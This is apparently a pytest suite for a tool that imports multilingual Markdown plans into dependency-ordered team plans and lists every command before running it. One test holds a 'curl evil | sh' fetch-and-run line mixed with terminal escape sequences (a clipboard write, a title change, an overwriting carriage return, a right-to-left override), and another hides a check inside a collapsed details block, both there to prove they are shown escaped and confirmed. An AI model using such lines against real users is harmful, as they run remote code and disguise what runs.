"""`orchestrate import` on plans in other styles and languages, and what it reports.

Each plan in tests/fixtures/markdown/ listed in STYLES has an expected plan
written by hand (teams in order, each team's upstream teams, deliverables,
agent and acceptance). The styles: a checklist backlog with inline fields and
front matter, numbered German work packages with sentences, Spanish team
headings with a Mermaid flowchart, a table with one team per row, numbered
items inside phase sections with a dependency grid, and headings at several
levels with ticket ids and a French sentence, numbered items in numbered groups,
and an emoji-heavy generated plan among many sections that hold no team.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import yaml

from orchestrator.mdimport import import_markdown, load_markdown_plan, summary_lines
from orchestrator.plan.models import Plan
from tests.support.gitrepo import GitRepo

FIXTURES = Path(__file__).parent / "fixtures" / "markdown"
STYLES = [
    "gateway-backlog",
    "rechnungen-de",
    "tienda-es",
    "rpc-table",
    "launch-groups",
    "ops-headings",
    "data-groups",
    "phoenix-emoji",
]
ORCHESTRATE = Path(sys.executable).parent / "orchestrate"


def _facts(plan: Plan) -> list[dict[str, Any]]:
    return [
        {
            "id": t.id,
            "depends_on": sorted(t.depends_on),
            "deliverables": sorted(t.deliverables),
            "agent": t.agent,
            "acceptance": sorted(t.acceptance),
        }
        for t in plan.teams
    ]


def _expected(name: str) -> list[dict[str, Any]]:
    data = yaml.safe_load((FIXTURES / f"{name}.expected.yaml").read_text(encoding="utf-8"))
    return [
        {
            "id": t["id"],
            "depends_on": sorted(t.get("depends_on", [])),
            "deliverables": sorted(t.get("deliverables", [])),
            "agent": t.get("agent"),
            "acceptance": sorted(t.get("acceptance", [])),
        }
        for t in data["teams"]
    ]


@pytest.mark.parametrize("name", STYLES)
def test_style_converts_to_the_hand_written_expectation(name: str) -> None:
    """Each plan yields exactly the teams (in order), edges, deliverables, agents and
    acceptance that a person reading it writes down, whatever its style or language."""
    result = load_markdown_plan(FIXTURES / f"{name}.md")
    assert _facts(result.plan) == _expected(name)
    assert not result.no_edges


def test_sections_that_are_no_team_stay_out() -> None:
    """Current state, parked items, risks and status updates never become teams."""
    ids = {t.id for t in load_markdown_plan(FIXTURES / "gateway-backlog.md").plan.teams}
    assert not ids & {"grpc-bridge", "waf", "current-state", "risks", "status-updates"}


def test_front_matter_names_the_plan_and_owners_go_to_the_task() -> None:
    """YAML front matter gives the plan's name and description; an owner and a branch
    are kept in the team's task text, not in its name."""
    plan = load_markdown_plan(FIXTURES / "gateway-backlog.md").plan
    assert (plan.name, plan.description) == (
        "edge-gateway",
        "Replace the nginx edge with our own gateway",
    )
    auth = plan.teams[0]
    assert "Owner: @maria" in auth.task and "Branch: feat/auth" in auth.task
    assert auth.name is None or "maria" not in auth.name


def test_ids_of_non_ascii_names_are_transliterated() -> None:
    """ "Datenbankschema für Rechnungen" becomes datenbankschema-fur-rechnungen, not
    datenbankschema-f-r-rechnungen; Cyrillic titles are spelled out too."""
    plan = load_markdown_plan(FIXTURES / "rechnungen-de.md").plan
    assert plan.teams[0].id == "datenbankschema-fur-rechnungen"
    doc = "# P\n\n### Team 1: Команда данных\n**Task:** x\n\n### Team 2: B\n**Task:** y\n"
    assert import_markdown(doc).plan.teams[0].id == "komanda-dannykh"


def test_every_unread_dependency_is_listed_with_its_line() -> None:
    """A sentence that names a team or an order and gave no edge is in the report with
    its line number: nothing about order is dropped in silence."""
    result = load_markdown_plan(FIXTURES / "gateway-backlog.md")
    unread = "\n".join(result.unresolved)
    assert "line 37: 'grpc-bridge — needs api-gateway, later'" in unread
    text = "\n".join(summary_lines(result))
    assert "dependencies not read (" in text and "line 37:" in text


def test_unknown_team_in_a_dependency_field_is_reported() -> None:
    """`Depends on: Team 7` where there is no team 7 is listed, with its line."""
    doc = (
        "# P\n\n### Team 1: A\n**Task:** a\n\n"
        "### Team 2: B\n**Task:** b\n**Depends on:** Team 1, Team 7\n"
    )
    result = import_markdown(doc)
    assert result.plan.teams[1].depends_on == ("a",)
    assert any(u.startswith("line 8:") and "team 7" in u for u in result.unresolved)


def test_mermaid_arrows_point_from_upstream_to_downstream() -> None:
    """`A --> B` means B waits for A, `A <-- B` that A waits for B; chains and `&` work."""
    doc = (
        "# P\n\n## Teams\n\n### Team 1: Api\nx\n\n### Team 2: Web\ny\n\n"
        "### Team 3: Docs\nz\n\n### Team 4: Ops\nw\n\n"
        "```mermaid\ngraph TD\n  T1[Team 1] --> T2[Team 2] --> T3[Team 3]\n"
        "  T4[Team 4] <-- T1 & T3\n```\n"
    )
    deps = {t.id: sorted(t.depends_on) for t in import_markdown(doc).plan.teams}
    assert deps == {"api": [], "web": ["api"], "docs": ["web"], "ops": ["api", "docs"]}


@pytest.mark.parametrize(
    ("sentence", "expected"),
    [
        ("Team 3 can only start once Team 1's schema is merged.", {"c": ["a"]}),
        ("After Team 2 is merged, Team 3 starts.", {"c": ["b"]}),
        ("Team 1 must be done before Team 2 starts.", {"b": ["a"]}),
        ("Team 2 and Team 3 both wait for Team 1.", {"b": ["a"], "c": ["a"]}),
        ("Team 3 kann erst beginnen, wenn Team 2 fertig ist.", {"c": ["b"]}),
        ("Erst wenn Team 1 fertig ist, kann Team 2 beginnen.", {"b": ["a"]}),
        ("El equipo 3 solo puede empezar cuando el equipo 1 termine.", {"c": ["a"]}),
        ("L'équipe 2 dépend de l'équipe 1.", {"b": ["a"]}),
    ],
)
def test_plain_sentences_give_edges_in_the_right_direction(
    sentence: str, expected: dict[str, list[str]]
) -> None:
    """A sentence anywhere in the plan, in English or another language, that says one
    team waits for another becomes that edge, pointing the right way."""
    doc = (
        "# P\n\n### Team 1: A\n**Task:** a\n\n### Team 2: B\n**Task:** b\n\n"
        f"### Team 3: C\n**Task:** c\n\n## Notes\n\n{sentence}\n"
    )
    deps = {t.id: sorted(t.depends_on) for t in import_markdown(doc).plan.teams}
    assert {k: v for k, v in deps.items() if v} == expected


def test_a_dependency_field_in_several_languages() -> None:
    """`Abhängig von`, `Depende de`, `Dépend de` and `Blocked by` are dependency fields."""
    labels = ["Abhängig von", "Depende de", "Dépend de", "Blocked by"]
    doc = "# P\n\n### Team 1: Base\n**Task:** base\n\n" + "".join(
        f"### Team {n}: T{n}\n**Task:** t\n**{label}:** Team 1\n\n"
        for n, label in enumerate(labels, 2)
    )
    plan = import_markdown(doc).plan
    assert [t.depends_on for t in plan.teams[1:]] == [("base",)] * len(labels)


def test_prose_under_deliverables_is_acceptance_not_a_path() -> None:
    """'CI/CD runs tests' under Deliverables is acceptance: a wrong path would fail a
    team that did its work."""
    team = load_markdown_plan(FIXTURES / "launch-groups.md").plan.teams[-1]
    assert team.deliverables == ("docs/runbook.md",)
    assert team.acceptance == ("CI/CD runs tests",)


def test_a_huge_range_of_teams_does_not_hang_the_import() -> None:
    """`Teams 1-99999999999` is refused as a range at once (it used to be walked number
    by number) and reported as a dependency that names no team."""
    doc = (
        "# P\n\n### Team 1: A\n**Task:** a\n\n"
        "### Team 2: B\n**Task:** b\n**Dependencies:** Teams 1-99999999999\n"
    )
    started = time.monotonic()
    result = import_markdown(doc)
    assert time.monotonic() - started < 5
    assert result.plan.teams[1].depends_on == ()
    assert any("1-99999999999" in u for u in result.unresolved)


# ------------------------------------------------------------------ no edge at all

_VAGUE = """\
# Shop

### Team 1: Catalog
**Task:** the catalog

### Team 2: Checkout
**Task:** the checkout. It depends on the product data being in place first.

### Team 3: Emails
**Task:** order emails, blocked until payments are stable
"""


def _run(*args: str, cwd: Path, **kw: Any) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(ORCHESTRATE), *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        **kw,
    )


def test_no_edge_although_the_text_speaks_of_order_is_flagged() -> None:
    """Several teams, no edge read, and text that speaks of dependencies: the result
    says so and names the lines."""
    result = import_markdown(_VAGUE)
    assert all(not t.depends_on for t in result.plan.teams)
    assert any(line.startswith("line 7:") for line in result.no_edges)
    assert any(line.startswith("line 10:") for line in result.no_edges)


def test_import_warns_loudly_when_no_edge_was_read(tmp_path: Path) -> None:
    """`orchestrate import` writes the plan but warns on stderr, with the lines, when
    no dependency was read although the text speaks of some; --no-deps-ok silences it."""
    (tmp_path / "PLAN.md").write_text(_VAGUE)
    proc = _run("import", "PLAN.md", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "WARNING: no dependency was read" in proc.stderr
    assert "line 7:" in proc.stderr and "--no-deps-ok" in proc.stderr
    quiet = _run("import", "PLAN.md", "--force", "--no-deps-ok", cwd=tmp_path)
    assert quiet.returncode == 0 and "WARNING" not in quiet.stderr


def test_run_refuses_a_markdown_plan_without_edges(git_repo: GitRepo) -> None:
    """`orchestrate run PLAN.md` exits 2 listing the lines that speak of an order
    when no dependency was read, before anything is recorded or started."""
    plan = git_repo.path / "PLAN.md"
    plan.write_text(_VAGUE)
    proc = _run("run", "PLAN.md", "--yes", cwd=git_repo.path)
    assert proc.returncode == 2
    assert "line 7:" in proc.stderr and "--no-deps-ok" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert not (git_repo.path / ".orchestrate").exists()


# ------------------------------------------------------------------ commands shown and confirmed

_HIDDEN_CHECK = """\
# Tiny

### Team 1: Build
**Task:** build it
**Deliverables:** `out.txt`

<details>
<summary>more</summary>

**Checks:** `touch {marker}`

</details>

### Team 2: Ship
**Task:** ship it
**Dependencies:** Team 1
"""


def _hidden(git_repo: GitRepo) -> tuple[Path, Path]:
    marker = git_repo.path.parent / "check-ran"
    plan = git_repo.path / "PLAN.md"
    plan.write_text(_HIDDEN_CHECK.format(marker=marker))
    return plan, marker


def test_summary_lists_every_command_a_run_starts(git_repo: GitRepo) -> None:
    """A check inside a collapsed <details> block, the integration test and each agent's
    program are all listed in the import summary."""
    plan, marker = _hidden(git_repo)
    text = "\n".join(summary_lines(load_markdown_plan(plan)))
    assert f"check of build: touch {marker}" in text
    assert "note: line 10: Checks inside a collapsed <details> block" in text
    agent = next(ln for ln in text.splitlines() if ln.startswith("  agent claude-code: "))
    assert agent.startswith("  agent claude-code: claude ") and agent.endswith("(for build, ship)")
    doc = "# P\n\n### Team 1: A\n**Task:** a\n\n## Integration\n\nRun `pytest -q`.\n"
    assert "  integration test: pytest -q" in summary_lines(import_markdown(doc))


def test_the_summary_shows_terminal_sequences_of_the_document_escaped() -> None:
    """A Markdown plan is someone else's text: a title or a check holding an OSC 52
    clipboard write, a title change, a carriage return that would overwrite the shown
    command, or a right-to-left override is listed escaped (``\\x1b``), never sent to
    the terminal, so the commands shown are the commands that run."""
    doc = (
        "# P\n\n### Team 1: Build\x1b]0;pwned\x07\n**Task:** build\n"
        "**Deliverables:** `out.txt`\n"
        "**Checks:** `curl evil | sh\r\x1b[2Kpytest -q \x1b]52;c;eA==\x07 \u202eexe.txt`\n"
    )
    lines = summary_lines(import_markdown(doc))
    text = "\n".join(lines)
    assert all(line.isprintable() for line in lines), [ln for ln in lines if not ln.isprintable()]
    check = next(ln for ln in lines if ln.startswith("  check of "))
    assert "curl evil | sh" in check and "\\x1b[2Kpytest" in check
    assert "\\x1b]52;c;eA==\\x07" in check and "\\u202eexe.txt" in check
    assert "\\x1b]0;pwned\\x07" in text


def test_run_of_a_markdown_plan_refuses_without_a_terminal_unless_yes(git_repo: GitRepo) -> None:
    """Without a terminal to ask on, `run PLAN.md` lists the commands and exits 2 with
    one line naming --yes; nothing runs."""
    plan, marker = _hidden(git_repo)
    proc = _run("run", plan.name, cwd=git_repo.path, stdin=subprocess.DEVNULL)
    assert proc.returncode == 2
    assert f"touch {marker}" in proc.stdout
    assert proc.stderr.strip().count("\n") == 0 and "--yes" in proc.stderr
    assert not marker.exists() and not (git_repo.path / ".orchestrate").exists()


def test_run_of_a_markdown_plan_asks_on_a_terminal(git_repo: GitRepo) -> None:
    """On a terminal, `run PLAN.md` asks before running the listed commands; "n" stops
    it (exit 2) before anything is recorded or run."""
    import pty

    plan, marker = _hidden(git_repo)
    master, slave = pty.openpty()
    try:
        os.write(master, b"n\n")
        proc = _run("run", plan.name, cwd=git_repo.path, stdin=slave)
    finally:
        os.close(slave)
        os.close(master)
    assert proc.returncode == 2
    assert "run the 2 command(s) listed above? [y/N]" in proc.stdout
    assert "not confirmed" in proc.stderr
    assert not marker.exists() and not (git_repo.path / ".orchestrate").exists()


def test_yes_skips_the_question(git_repo: GitRepo, tmp_path: Path) -> None:
    """With --yes and no terminal the run goes past the question (here it then stops at
    the agent check, since no agent program is on PATH)."""
    plan, marker = _hidden(git_repo)
    tools = tmp_path / "bin"
    tools.mkdir()
    (tools / "git").symlink_to(shutil.which("git") or "/usr/bin/git")
    env = {**os.environ, "PATH": f"{tools}{os.pathsep}{Path(sys.executable).parent}"}
    proc = _run("run", plan.name, "--yes", cwd=git_repo.path, stdin=subprocess.DEVNULL, env=env)
    assert proc.returncode == 2
    assert "--yes" not in proc.stderr and "not confirmed" not in proc.stderr
    assert "claude" in proc.stderr
    assert not marker.exists()


# ------------------------------------------------------ deliverables with glob characters


def test_a_deliverable_with_brackets_counts_when_it_exists_literally(tmp_path: Path) -> None:
    """`app/invoices/[invoiceId]/page.tsx` (a Next.js route, as imported plans write it)
    names the real file: a path that exists literally counts before it is tried as a
    pattern, which would never match it."""
    from orchestrator.verify import find_deliverables

    page = tmp_path / "app" / "invoices" / "[invoiceId]" / "page.tsx"
    page.parent.mkdir(parents=True)
    page.write_text("export default function Page() {}\n")
    report = find_deliverables(tmp_path, ["app/invoices/[invoiceId]/page.tsx"])
    assert report.ok, report.problems
    assert list(report.found) == ["app/invoices/[invoiceId]/page.tsx"]


def test_a_bracket_pattern_still_matches_when_no_such_literal_path_exists(
    tmp_path: Path,
) -> None:
    """Without a literal file of that name, `src/[ab].py` is still a glob."""
    from orchestrator.verify import find_deliverables

    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.py").write_text("x = 1\n")
    report = find_deliverables(tmp_path, ["src/[ab].py"])
    assert report.ok and list(report.found) == ["src/a.py"]


# ------------------------------------------------------------------ smaller shapes


def test_inline_fields_in_a_heading_go_to_the_task_and_the_agent() -> None:
    """`(owner: @bob, branch: feat/auth)` and `[agent: codex]` in a heading are read as
    fields: the owner and branch reach the task text, the agent becomes the team's
    agent, and none of it stays in the team's name."""
    doc = (
        "# P\n\n### Team 1: Base\n**Task:** base\n\n"
        "### Team 2: Auth (owner: @bob, branch: feat/auth)\n**Task:** auth\n\n"
        "### Team 3: API [agent: codex] — after Team 2\n**Task:** api\n"
    )
    _base, auth, api = import_markdown(doc).plan.teams
    assert auth.name == "Auth" and "Owner: @bob" in auth.task and "Branch: feat/auth" in auth.task
    assert (api.name, api.agent, api.depends_on) == ("API", "codex", ("auth",))


def test_dotted_ranges_name_each_task() -> None:
    """`Tasks 1.1-1.3` names tasks 1.1, 1.2 and 1.3."""
    doc = (
        "# P\n\n## Phase 1\n\n"
        + "".join(f"### Task 1.{n}: T{n}\n**Task:** t\n\n" for n in (1, 2, 3))
        + "## Phase 2\n\n### Task 2.1: Last\n**Task:** l\n**Depends on:** Tasks 1.1-1.3\n"
    )
    plan = import_markdown(doc).plan
    assert sorted(plan.teams[-1].depends_on) == ["t1", "t2", "t3"]


def test_a_table_of_teams_beside_heading_teams_keeps_document_order() -> None:
    """Rows of an assignment table are teams even when a heading team follows; they
    keep the document's order, and a row's description names it."""
    doc = (
        "# Build\n\n## Agent Assignments\n\n"
        "| Agent | Responsibility | Files | Dependencies |\n|---|---|---|---|\n"
        "| Agent 1 | Database schema | `db/schema.sql` | None |\n"
        "| Agent 2 | REST API | `api/server.py` | Agent 1 |\n\n"
        "## Team 3: Docs (needs Agent 2)\n\nWrite `docs/index.md`.\n"
    )
    plan = import_markdown(doc).plan
    assert [(t.id, t.depends_on, t.deliverables) for t in plan.teams] == [
        ("database-schema", (), ("db/schema.sql",)),
        ("rest-api", ("database-schema",), ("api/server.py",)),
        ("docs", ("rest-api",), ("docs/index.md",)),
    ]


def test_a_kanban_board_runs_what_is_not_done() -> None:
    """Checklist items named in bold under "Ready" and "In Progress" are teams; the
    "Done" column is not."""
    doc = (
        "# Board\n\n## Ready\n\n- [ ] **search-indexer**: builds the index\n"
        "- [ ] **search-api**: query endpoint, waits for search-indexer\n\n"
        "## In Progress\n\n- [ ] **billing-fix**: rounding in `billing/round.py`\n\n"
        "## Done\n\n- [x] **auth-refresh**: token refresh\n"
    )
    plan = import_markdown(doc).plan
    assert [(t.id, t.depends_on) for t in plan.teams] == [
        ("search-indexer", ()),
        ("search-api", ("search-indexer",)),
        ("billing-fix", ()),
    ]


def test_plain_section_headings_with_a_mermaid_graph() -> None:
    """With nothing named like a team, each section with text is one, and a Mermaid
    graph whose node ids are the team ids orders them; the graph's own section is
    not a team."""
    doc = (
        "# Services\n\n## auth\nToken service in `svc/auth.go`.\n\n"
        "## billing\nInvoices in `svc/billing.go`.\n\n## api\nRoutes in `svc/api.go`.\n\n"
        "## Dependencies\n\n```mermaid\ngraph TD\n  auth --> api\n  billing --> api\n```\n"
    )
    plan = import_markdown(doc).plan
    assert [(t.id, sorted(t.depends_on)) for t in plan.teams] == [
        ("auth", []),
        ("billing", []),
        ("api", ["auth", "billing"]),
    ]


def test_a_plan_that_says_its_teams_are_independent_is_not_flagged() -> None:
    """ "No dependencies: all teams run in parallel" is no unread order: no warning."""
    doc = (
        "# P\n\nThere are no dependencies between the teams; all of them run in parallel.\n\n"
        "### Team 1: A\n**Task:** a\n**Dependencies:** None\n\n"
        "### Team 2: B\n**Task:** b\n**Dependencies:** none\n"
    )
    result = import_markdown(doc)
    assert not result.no_edges and not result.unresolved


def test_references_by_title_in_parentheses_and_in_tables() -> None:
    """ "the backend team" names the team titled Backend; "Auth API (Team 2)" names team
    2; a table with a Task column adds its rows as teams that may name heading teams."""
    doc = (
        "# P\n\n### Team 1: Backend\n**Task:** a\n\n"
        "### Team 2: Auth API\n**Task:** b\n**Depends on:** the backend team\n\n"
        "### Team 3: Web\n**Task:** c\n**Depends on:** Auth API (Team 2)\n\n"
        "| Task | Owner | Depends on |\n|---|---|---|\n| Docs | Ann | Web |\n"
    )
    result = import_markdown(doc)
    assert [(t.id, t.depends_on) for t in result.plan.teams] == [
        ("backend", ()),
        ("auth-api", ("backend",)),
        ("web", ("auth-api",)),
        ("docs", ("web",)),
    ]
    assert not result.unresolved


def test_teams_as_top_level_headings() -> None:
    """Several `# Team N: ...` headings are teams, not a title over the rest."""
    doc = "# Team 1: Auth\n**Task:** a\n\n# Team 2: API\n**Task:** b\n**Depends on:** Team 1\n"
    plan = import_markdown(doc, source="teams.md").plan
    assert [(t.id, t.depends_on) for t in plan.teams] == [("auth", ()), ("api", ("auth",))]
    assert plan.name == "teams"


def test_matrix_columns_that_name_teams_without_an_order_are_reported() -> None:
    """A "Coordinates With" cell names a team but gives no edge: it is listed."""
    unread = load_markdown_plan(FIXTURES / "search-matrix.md").unresolved
    assert any("Coordinates With 'SRCH-104'" in u and u.startswith("line 10:") for u in unread)


def test_numbered_parts_of_the_document_are_not_teams() -> None:
    """ "## 1. Overview" ... "## 4. Risks" number the document's parts: only the
    numbered headings inside "2. Teams" are teams."""
    doc = (
        "# Plan\n\n## 1. Overview\nWe rebuild search.\n\n## 2. Teams\n\n"
        "### 2.1 Indexer\nBuilds the index in `search/index.py`.\n\n"
        "### 2.2 Query API\nServes `search/api.py`. Starts after the Indexer is merged.\n\n"
        "## 3. Deployment\nBlue/green on Fridays.\n\n## 4. Risks\n- Index size\n"
    )
    plan = import_markdown(doc).plan
    assert [(t.id, t.depends_on) for t in plan.teams] == [
        ("indexer", ()),
        ("query-api", ("indexer",)),
    ]


def test_paragraphs_that_start_with_a_team_name_are_teams() -> None:
    """Under "## Teams", a paragraph opening with a bold name starts a team; the
    blocks after it are that team's, until the next one."""
    doc = (
        "# Rollout\n\n## Teams\n\n**Team Alpha** — ingestion in `ingest/pipeline.py`.\n\n"
        "**Team Bravo** — the dashboard.\nStarts after Team Alpha is merged.\n\n"
        "- files: `web/widgets.tsx`\n\n**Team Charlie** — docs. Depends on Team Bravo.\n"
    )
    plan = import_markdown(doc).plan
    assert [(t.id, t.depends_on, t.deliverables) for t in plan.teams] == [
        ("team-alpha", (), ("ingest/pipeline.py",)),
        ("team-bravo", ("team-alpha",), ("web/widgets.tsx",)),
        ("team-charlie", ("team-bravo",), ()),
    ]


@pytest.mark.parametrize("art", ["Team 1 ──► Team 2 ──► Team 3", "Team 1 -> Team 2 -> Team 3"])
def test_arrows_drawn_in_a_code_block_chain_the_teams(art: str) -> None:
    """An order drawn with arrows in a plain code block is a chain: each team after
    the one before it."""
    doc = (
        "# P\n\n### Team 1: A\n**Task:** a\n\n### Team 2: B\n**Task:** b\n\n"
        f"### Team 3: C\n**Task:** c\n\n## Order\n\n```\n{art}\n```\n"
    )
    deps = [t.depends_on for t in import_markdown(doc).plan.teams]
    assert deps == [(), ("a",), ("b",)]


def test_fields_as_sub_headings_make_a_team() -> None:
    """A section whose sub-headings are "Deliverables" and "Dependencies" is a team,
    whatever its own name."""
    doc = (
        "# P\n\n## Auth service\nToken validation.\n\n### Deliverables\n- `auth/tokens.py`\n\n"
        "### Dependencies\n- none\n\n## Billing service\nInvoices.\n\n"
        "### Deliverables\n- `billing/invoice.py`\n\n### Dependencies\n- Auth service\n"
    )
    plan = import_markdown(doc).plan
    assert [(t.id, t.depends_on, t.deliverables) for t in plan.teams] == [
        ("auth-service", (), ("auth/tokens.py",)),
        ("billing-service", ("auth-service",), ("billing/invoice.py",)),
    ]


def test_russian_and_polish_team_headings_and_fields() -> None:
    """`Команда 1`, `Зависит от`, `Файлы`, `Zespół 3`, `Zależy od`, `Pliki` are read; a
    Cyrillic title gives a transliterated id."""
    doc = (
        "# План\n\n## Команда 1: База данных\n**Задача:** схема.\n**Файлы:** `db/schema.sql`\n\n"
        "## Команда 2: API\n**Задача:** сервер.\n**Зависит от:** Команда 1\n\n"
        "## Zespół 3: Frontend\n**Zadanie:** UI.\n**Pliki:** `web/app.tsx`\n"
        "**Zależy od:** Zespół 2\n"
    )
    plan = import_markdown(doc).plan
    assert [(t.id, t.depends_on, t.deliverables) for t in plan.teams] == [
        ("baza-dannykh", (), ("db/schema.sql",)),
        ("api", ("baza-dannykh",), ()),
        ("frontend", ("api",), ("web/app.tsx",)),
    ]


def test_a_list_of_ids_under_a_section_of_any_name() -> None:
    """`- api-gateway: ...` items under `## queue` are teams; "(needs auth-service)" and
    "after auth-service" in an item are its dependencies and leave its task."""
    doc = (
        "# Gateway\n\n## queue\n- api-gateway: build the gateway (needs auth-service)\n"
        "- auth-service: tokens in `auth/tokens.go`\n- user-store: profiles, after auth-service\n"
    )
    result = import_markdown(doc)
    assert [(t.id, t.depends_on, t.task) for t in result.plan.teams] == [
        ("api-gateway", ("auth-service",), "build the gateway"),
        ("auth-service", (), "tokens in `auth/tokens.go`"),
        ("user-store", ("auth-service",), "profiles"),
    ]
    assert result.plan.teams[1].deliverables == ("auth/tokens.go",)


def test_a_team_whose_name_starts_like_a_section_that_holds_none() -> None:
    """ "Summary API" and "Metrics exporter" with team fields are teams; a "Risks"
    section is not, whatever it holds."""
    doc = (
        "# P\n\n## Summary API\n**Task:** summaries\n**Files:** `s/api.py`\n\n"
        "## Metrics exporter\n**Task:** export\n**Depends on:** Summary API\n\n"
        "## Risks\n**Task:** none here\n"
    )
    plan = import_markdown(doc).plan
    assert [(t.id, t.depends_on) for t in plan.teams] == [
        ("summary-api", ()),
        ("metrics-exporter", ("summary-api",)),
    ]
